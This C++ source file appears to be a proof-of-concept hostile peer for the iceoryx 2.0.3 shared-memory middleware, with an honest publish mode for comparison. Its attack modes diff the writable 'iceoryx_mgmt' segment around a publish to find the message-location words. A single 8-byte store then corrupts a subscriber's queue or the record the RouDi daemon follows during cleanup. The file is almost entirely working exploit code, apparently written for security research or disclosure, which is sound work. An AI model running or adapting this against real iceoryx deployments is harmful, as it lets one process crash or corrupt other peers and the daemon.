// A peer of an iceoryx 2.0.3 domain, as an ordinary client of the packaged library:
//   rogue_peer victim             subscribes, and takes one message when SIGUSR1 comes
//   rogue_peer honest             publishes one message and leaves
//   rogue_peer against-peer       the same, but overwrites one word: where the subscriber's queue
//                                 holds the message's place
//   rogue_peer against-daemon     likewise, one word: where its own publisher notes the message,
//                                 which RouDi follows when it cleans up after it
// The words are found by looking at what publishing changed: no offset of a version is built in.
#include <signal.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iceoryx_hoofs/log/logmanager.hpp>
#include <iceoryx_posh/popo/untyped_publisher.hpp>
#include <iceoryx_posh/popo/untyped_subscriber.hpp>
#include <iceoryx_posh/runtime/posh_runtime.hpp>
#include <span>
#include <string>
#include <vector>

namespace {

// An address that is mapped nowhere, as a relative pointer of segment 0: that one has base 0.
constexpr uint64_t kNowhere = 0x41414141ULL << 16;
constexpr uint64_t kSegmentMask = 0xFFFF;
constexpr uint64_t kManagementSegment = 1;
// Messages are managed further behind; what looks like a lower one is a counter or an index.
constexpr uint64_t kOffsetMin = 1 << 20;
constexpr useconds_t kPollUs = 1000;

void say(const char* text) {
  std::puts(text);
  std::fflush(stdout);
}

iox::capro::ServiceDescription topic() { return {"rtsup", "hostile", "topic"}; }

sigset_t only_usr1() {
  sigset_t set;
  sigemptyset(&set);
  sigaddset(&set, SIGUSR1);
  return set;
}

int be_victim() {
  iox::popo::UntypedSubscriber subscriber(topic());
  while (subscriber.getSubscriptionState() != iox::SubscribeState::SUBSCRIBED) {
    ::usleep(kPollUs);
  }
  say("subscribed");
  int signal = 0;
  const sigset_t wanted = only_usr1();
  sigwait(&wanted, &signal);
  auto taken = subscriber.take();
  if (taken.has_error()) {
    say("nothing");
    return 1;
  }
  say(static_cast<const char*>(taken.value()));
  subscriber.release(taken.value());
  return 0;
}

// The segment that every participant maps writable.
std::span<uint64_t> management_segment() {
  std::ifstream maps("/proc/self/maps");
  for (std::string line; std::getline(maps, line);) {
    void* begin = nullptr;
    void* end = nullptr;
    if (line.find("iceoryx_mgmt") != std::string::npos &&
        std::sscanf(line.c_str(), "%p-%p", &begin, &end) == 2) {
      return {static_cast<uint64_t*>(begin), static_cast<uint64_t*>(end)};
    }
  }
  return {};
}

bool is_place(uint64_t word, size_t segment_bytes) {
  return (word & kSegmentMask) == kManagementSegment && (word >> 16) > kOffsetMin &&
         (word >> 16) < segment_bytes;
}

int publish(const std::string& aim) {
  iox::popo::UntypedPublisher publisher(topic());
  while (!publisher.hasSubscribers()) {
    ::usleep(kPollUs);
  }
  const std::span<uint64_t> segment = management_segment();
  const std::vector<uint64_t> before(segment.begin(), segment.end());
  auto loan = publisher.loan(64);
  std::memcpy(loan.value(), "hello", sizeof "hello");
  publisher.publish(loan.value());
  // The publisher's own note comes first, then the subscriber's queue.
  std::vector<size_t> places;
  for (size_t i = 0; i < before.size(); ++i) {
    if (before[i] != segment[i] && is_place(segment[i], segment.size_bytes())) {
      places.push_back(i);
    }
  }
  std::printf("places: %zu\n", places.size());
  if (aim != "honest" && places.size() == 2) {
    const size_t place = aim == "against-daemon" ? places.front() : places.back();
    std::printf("one store of 8 bytes at offset %zu of iceoryx_mgmt\n", place * sizeof(uint64_t));
    segment[place] = kNowhere;  // the one store
  }
  std::fflush(stdout);
  ::_exit(0);
}

}  // namespace

int main(int argc, char** argv) {
  const std::string mode = argc == 2 ? argv[1] : "";
  const sigset_t waited_for = only_usr1();
  pthread_sigmask(SIG_BLOCK, &waited_for, nullptr);  // before the library starts its threads
  iox::log::LogManager::GetLogManager().SetDefaultLogLevel(iox::log::LogLevel::kError);
  iox::runtime::PoshRuntime::initRuntime(
      iox::RuntimeName_t(iox::cxx::TruncateToCapacity, mode.c_str()));
  return mode == "victim" ? be_victim() : publish(mode);
}
